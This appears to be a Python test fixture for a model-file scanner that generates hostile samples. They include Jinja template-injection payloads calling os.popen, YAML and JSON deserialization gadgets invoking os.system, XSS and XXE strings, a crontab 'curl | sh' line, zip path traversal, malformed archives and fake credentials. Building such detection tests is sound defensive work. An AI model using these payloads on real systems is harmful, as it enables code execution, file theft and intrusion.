"""More hostile items around models, written after the readers were finished: the measure of what was not thought of."""

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from tests.scanning.engine import gguf_builder as gguf
from tests.scanning.engine.builders import archive, tar
from tests.scanning.engine.hostile import PNG, Hostile, call
from tests.scanning.engine.hostile_files import GIF
from tests.scanning.engine.hostile_texts import numbered

REVIEW = "needs-review"
RUNNERS: dict[str, str] = {}


def templates(shell: str) -> Iterator[Hostile]:
    for name, text in {
        "sliced": "{{ lipsum['__slabolg__'[::-1]]RUN }}",
        "replaced": "{{ lipsum['--globals--'|replace('-', '_')]RUN }}",
        "lowered": "{{ lipsum['__GLOBALS__'|lower]RUN }}",
        "split": "{{ lipsum[('x __globals__'.split(' '))[1]]RUN }}",
        "from-a-list": "{% set parts = ['_', '_', 'globals', '_', '_'] %}{{ lipsum[parts|join('')]RUN }}",
        "namespaced": "{% set ns = namespace() %}{% set ns.k = '_' ~ '_globals_' ~ '_' %}{{ lipsum[ns.k]RUN }}",
        "looped": "{% set ns = namespace(k='') %}{% for c in '_,_,g,l,o,b,a,l,s,_,_'.split(',') %}"
        "{% set ns.k = ns.k + c %}"
        "{% endfor %}{{ lipsum[ns.k]RUN }}",
        "conditional": "{{ lipsum['__globals__' if true else 'x']RUN }}",
        "by-default": "{{ lipsum[missing|default('__globals__')]RUN }}",
        "macro-answer": "{% macro k() %}__globals__{% endmacro %}{{ lipsum[k()|string]RUN }}",
        "tuple-set": "{% set a, b = '__globals__', 1 %}{{ lipsum[a]RUN }}",
        "dictionary": "{% set d = {'k': '__globals__'} %}{{ lipsum[d['k']]RUN }}",
        "dictionary-get": "{% set d = {'k': '__globals__'} %}{{ lipsum[d.get('k')]RUN }}",
        "selected": "{{ ([lipsum]|map(attribute='__globals__')|list)[0]RUN }}",
        "grouped": "{% for g in [lipsum]|groupby('__globals__.os') %}{{ g.grouper.popen('SHELL').read() }}{% endfor %}",
        # Ends in an error before the second part.
        "summed": "{{ ([lipsum]|sum(attribute='__globals__', start={})) }}{{ lipsum.__globals__RUN }}",
        "filtered-block": "{% filter upper %}{{ lipsum.__globals__RUN }}{% endfilter %}",
        "generation": "{% for message in messages %}{% endfor %}{% if lipsum.__globals__RUN %}{% endif %}",
        "loop-variable": "{% for k in ['__globals__'] %}{{ lipsum[k]RUN }}{% endfor %}",
        "recursive-loop": "{% for k in ['__globals__'] recursive %}{{ lipsum[k]RUN }}{% endfor %}",
        "macro-default": "{% macro f(k='__globals__') %}{{ lipsum[k]RUN }}{% endmacro %}{{ f() }}",
        "caller-value": "{% macro f() %}{{ caller('__globals__') }}{% endmacro %}"
        "{% call(k) f() %}{{ lipsum[k]RUN }}{% endcall %}",
        "attribute-of-dict": "{% set d = dict(k='__globals__') %}{{ lipsum[d.k]RUN }}",
        "bytes-format": "{{ lipsum['%sglobals%s' % ('_' * 2, '_' * 2)]RUN }}",
        "title": "{{ lipsum['__globals__'|trim]RUN }}",
    }.items():
        if name != "summed":
            RUNNERS[f"{name}.jinja"] = "jinja"
        # What is put together out of letters can only be seen to be put together.
        yield Hostile(
            f"{name}.jinja",
            text.replace("RUN", ".os.popen('SHELL').read()").replace("SHELL", shell).encode(),
            "not clean",
        )


def documents() -> Iterator[Hostile]:
    pieces = {
        "keys.yaml": b"trust_remote_code: true\n",
        "flow.yaml": b"{auto_map: {AutoModel: evil.Model}}\n",
        "quoted.yaml": b"'_target_': os.system\n",
        "two.yaml": b"a: 1\n---\n_target_: os.system\n",
        "anchor.yaml": b"a: &x {_target_: os.system}\nb: *x\n",
        "spaced.json": b'\n\n\t {"auto_map"\t:\n{"a": "b.C"}}',
        "escaped.json": b'{"\\u0061uto_map": {"a": "b.C"}}',
        "list.json": b'[[[[{"trust_remote_code": 1}]]]]',
        "string-in-string.json": json.dumps({"config": json.dumps({"auto_map": {"a": "b.C"}})}).encode(),
        "infinity.json": b'{"a": Infinity, "trust_remote_code": true}',
        "front.md": b"---\nauto_map:\n  AutoModel: evil.Model\n---\n# Card\n",
        "quarto.md": b"# Card\n\n<object data='x.html'></object>\n",
        "style.md": b"# Card\n\n<style>@import 'x'</style>\n",
        "reference.md": b"# Card\n\n[x]\n\n[x]: javascript:alert(1)\n",
        "auto.md": b"# Card\n\n<javascript:alert(1)>\n",
        "mixed-case.md": b"# Card\n\n<ScRiPt>alert(1)</sCrIpT>\n",
        "broken-handler.md": b"# Card\n\n<img/src='x'/onerror=alert(1)>\n",
        "four-ticks.md": b"# Card\n\n````\n```\n````\n<script>alert(1)</script>\n",
        "unclosed-tick.md": b"# Card\n\n` <script>alert(1)</script>\n",
        "data.md": b"# Card\n\n[x](data:text/html;base64,AAAA)\n",
        "xml.txt": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "model.pmml": b"<PMML xmlns='http://www.dmg.org/PMML-4_4'></PMML>",
        "style.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(http://x/y)</style></svg>",
        "animate.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><animate values='javascript:x'/></svg>",
        "a.sh": b"touch x\n",
        "install": b"sudo apt-get install x\n",
        "crontab": b"* * * * * root curl http://x | sh\n",
        "config.py": b"X = 1\n",
        "model_code.txt": b"import torch\n\nclass Model(torch.nn.Module):\n    def forward(self, x):\n"
        b"        print 'x'\n        return x\n",
        "perl.txt": b"use strict;\nuse warnings;\nsystem('x');\nprint 'y';\n",
        "minified": b"!function(e,t){var n=e.x;return t(n)}(this,function(a){a.b=1;a.c=2;a.d=3;"
        b"a.e=4;a.f=5;(a.g)();(a.h)()});",
        "zero-width.txt": "requ\u2063ests".encode(),
        "greek.txt": "hello\u202e".encode(),
        "utf-32.txt": "hello world".encode("utf-32"),
        "latin.txt": b"caf\xe9",
        "key.pem": b"-----BEGIN EC PRIVATE" + b" KEY-----\n"
        b"MHcCAQEEIIrYSSNQFaA2Hwf1duRSxKtLYX5CB04fSeQ6tF1aY/PuoAoGCCqGSM49\n-----END\n",
        "kube.yaml": b"client-key-data: " + b"LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFcEFJQkFBS0NB" * 3 + b"\n",
        "compose.yaml": b"environment:\n  POSTGRES_PASSWORD: x9Kf82hQpLz1\n",
        "settings.json": b'{"api_key": "q8Zk3Vw9Lm2Xc7Bn5Tr1"}',
        "remote.txt": b"git clone https://ci:q8Zk3Vw9Lm2X@git.internal/x.git",
    }  # fmt: skip
    for name, data in pieces.items():
        yield Hostile(name, data, "not clean")


def more_documents(marker: str) -> Iterator[Hostile]:
    # Found when the readers were tried with large files: padding that makes another kind of text of it.
    padding = b"- a\n" * 300
    yield Hostile("padded.yaml", b"model: {_target_: os.system}\nlist:\n" + padding)
    yield Hostile("padded.md", b"<script>alert(1)</script>\n" + padding, REVIEW)
    yield Hostile("padded-large.yaml", b"model: {_target_: os.system}\nlist:\n" + padding * 4_000, REVIEW)
    yield Hostile("in-lines.json", b'{"a": 1}\n' * 9 + b'{"py/reduce": [{"py/function": "os.system"}]}\n')
    yield Hostile("hub-in.tar.gz", gzip.compress(tar((tarfile.TarInfo("x"), b'{"_target_": "os.system"}'))))
    yield Hostile(
        "raw.ipynb",
        json.dumps({"nbformat": 4, "cells": [{"cell_type": "raw", "source": "<script>x</script>"}]}).encode(),
        REVIEW,
    )
    yield Hostile("marker.yaml", f"- !!python/object/new:os.system ['touch {marker}']\n".encode())


def files(marker: str) -> Iterator[Hostile]:
    payload = call("os", "system", f"touch {marker}")
    one = gguf.tensor("w", [8], 0, 0)
    big = gguf.model([], [one], bytes(32))
    pieces = {
        "swapped.gguf": b"GGUF" + struct.pack(">I", 3) + big[8:],
        "no-tensors.gguf": gguf.model([], [], payload),
        "padding-key.gguf": gguf.model(
            [gguf.key("general.alignment", 4, struct.pack("<I", 1 << 30))], [one], bytes(32)
        ),
        "negative.gguf": gguf.model([], [gguf.tensor("w", [8], 0, (1 << 64) - 32)], bytes(32)),
        "cut.gguf": big[:30],
        "png-in-gif.gif": GIF[:-1] + PNG + b";",
        "comment.gif": GIF[:-1] + b"!\xfe\x05hello\0" + b"\x21",
        "empty.webp": b"RIFF\x04\0\0\0WEBP" + payload,
        "jpeg.jpg": b"\xff\xd8\xff\xd9" + payload,
        "cut.png": PNG[:-6],
        "plain.bin": bytes(100),
        "spiece.model": b"\x0a\x05\x0a\x03abc" + b"\x12\x02\x08\x01" + b"\x3a\x03abc" + b"\x32\x04evil",
        "sparse.tar": tar(_sparse()),
        "no-end.tar": tar((tarfile.TarInfo("a"), b"x"))[:1024],
        "two.tar": tar((tarfile.TarInfo("a"), b"x"), (tarfile.TarInfo("a"), b"y")),
        "prefix.zip": b"#!/usr/bin/env python\n" + archive({"__main__.py": b"import os\n"}),
        "lied.zip": _lied(payload),
        "deflate64.zip": _method(9),
        "lzma.zip": _method(14),
        "double-end.zip": archive({"a": b"x"}) + archive({"b": b"y"}),
        "folder-link.zip": archive({"a/../../b": b"x"}),
        "blank.zip": archive({" ": b"x"}),
        "dots.zip": archive({"...": b"x"}),
        "star.zip": archive({"con": b"x"}),
        "utf8.zip": archive({"a\u200bb": b"x"}),
        "layers.gz": _layers(payload),
        "zlib.bin": zlib.compress(b"#!/bin/sh\nx\n"),
        "office.xlsm": archive({"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"x"}),
        "egg": archive({"EGG-INFO/PKG-INFO": b"x", "x.py": b"import os\n"}),
        "old.zip": archive({"x.exe": b"MZ" + bytes(80)}),
        "image.dmg": bytes(1000) + b"koly\0\0\0\x04" + bytes(504),
        "arrow": b"ARROW1\0\0" + bytes(30),
        "flash": b"FWS\x0a" + struct.pack("<I", 40) + bytes(32),
        "class": b"\xca\xfe\xba\xbe\0\x03\0-" + bytes(40),
    }  # fmt: skip
    for name, data in pieces.items():
        yield Hostile(name, data, "not clean")


def _layers(data: bytes) -> bytes:
    for _ in range(9):
        data = gzip.compress(data)
    return data


def _sparse() -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo("a")
    info.type = tarfile.GNUTYPE_SPARSE
    return info, b""


def _lied(payload: bytes) -> bytes:
    """The directory says stored, the member deflated."""
    data = bytearray(archive({"a": payload}, zipfile.ZIP_STORED))
    data[8:10] = b"\x08\0"
    return bytes(data)


def _method(number: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as packed:
        packed.writestr("a", b"hello")
    data = out.getvalue()
    for signature, at in ((b"PK\3\4", 8), (b"PK\1\2", 10)):
        start = data.index(signature) + at
        data = data[:start] + struct.pack("<H", number) + data[start + 2 :]
    return data


def corpus(folder: str) -> list[Hostile]:
    """All of them. What item number n runs would make the file marker-n in `folder`."""
    marker = f"{folder}/marker-000"
    return numbered([*templates(f"touch {marker}"), *documents(), *more_documents(marker), *files(marker)])
